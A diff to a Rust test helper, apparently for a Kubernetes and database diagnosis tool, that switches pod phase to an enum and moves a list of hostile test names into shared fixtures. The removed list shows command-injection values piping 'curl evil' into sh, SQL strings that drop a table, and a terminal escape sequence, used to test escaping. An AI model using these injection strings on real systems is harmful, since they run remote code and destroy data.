@@ -6,7 +6,7 @@ use serde_json::json;
 use crate::{
     causes::diagnose,
     fixtures::{self, CHART_WITH_PROCESSOR, installation, objects, observed, spec},
-    model::{Code, Diagnosis},
+    model::{Code, Diagnosis, PodPhase},
     observe::{
         DatabaseProbe, Observation, PodSummary, WorkloadState,
         database::{Connections, LastRun, Lock, Queue, QueueProbe, Queues, Recurring, Runs, Sample},
@@ -52,7 +52,7 @@ pub(crate) fn processor(started: i64) -> PodSummary {
         name: "flagsmith-task-processor-abc".to_owned(),
         component: "task-processor".to_owned(),
         version: Some("2.265.0".to_owned()),
-        phase: "Running".to_owned(),
+        phase: PodPhase::Running,
         ready: true,
         terminating: false,
         started: Some(at(started)),
@@ -230,13 +230,7 @@ pub(crate) fn assert_typed_at_helm(observation: &Observation, code: Code, expect
     assert!(!diagnosis.remedy.contains("spec."), "{diagnosis:#?}");
 }
 
-/// Names that would run what they say, were they pasted as they are.
-pub(crate) const HOSTILE: &[&str] = &[
-    "x;curl evil|sh",
-    "x\"; DROP TABLE t; --",
-    "x'; DROP TABLE t; --",
-    "x\u{1b}[2J\ncurl evil|sh",
-];
+pub(crate) const HOSTILE: &[&str] = &fixtures::HOSTILE;
 
 /// A hostile name as a text in SQL.
 pub(crate) fn literal(hostile: &str) -> String {
